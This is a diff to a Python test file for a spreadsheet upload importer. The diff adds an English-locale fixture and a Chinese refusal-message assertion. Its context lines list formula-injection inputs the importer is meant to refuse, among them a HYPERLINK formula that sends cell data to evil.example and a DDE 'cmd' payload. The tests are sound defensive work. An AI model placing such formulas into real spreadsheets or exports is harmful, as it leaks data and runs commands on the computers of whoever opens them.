@@ -24,6 +24,13 @@ from pacesetter.plans.models import Plan
 
 pytestmark = pytest.mark.django_db
 
+
+@pytest.fixture(autouse=True)
+def english():
+    # The refusals are asserted word for word in English; one test asks for Chinese itself.
+    with translation.override("en"):
+        yield
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [HYPERLINK, "+1+1", "-2+3 cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 REPORTER = "reporter-shuangcheng"
@@ -185,6 +192,7 @@ def test_the_refusal_is_in_the_users_language(demo):
     with translation.override("zh-hans"), pytest.raises(UploadRefused) as caught:
         _import(data.encode())
     assert "备注x" in caught.value.message and "说明" in caught.value.message
+    assert "无法识别的列" in caught.value.message
 
 
 def test_no_spelling_names_two_columns_in_any_language():
